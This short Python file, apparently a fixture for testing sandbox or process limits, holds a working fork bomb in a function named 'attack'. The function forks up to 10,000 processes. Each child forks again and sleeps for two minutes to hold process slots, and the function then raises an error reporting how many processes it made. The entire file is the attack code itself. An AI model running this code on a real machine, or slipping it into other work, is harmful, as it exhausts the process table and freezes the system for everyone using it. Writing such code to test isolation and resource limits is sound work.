# mypy: ignore-errors
# A fork bomb: in one position it forks until the system says no (each child forks too, then holds its
# slot asleep: the bomb is the count of processes, not CPU), then raises to say how many it made.
import contextlib
import os
import time


def attack():
    made = 0
    while made < 10_000:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            with contextlib.suppress(OSError):
                os.fork()
            time.sleep(120)
            os._exit(0)
        made += 1
    raise RuntimeError(f"the bomb stopped after {made} processes")
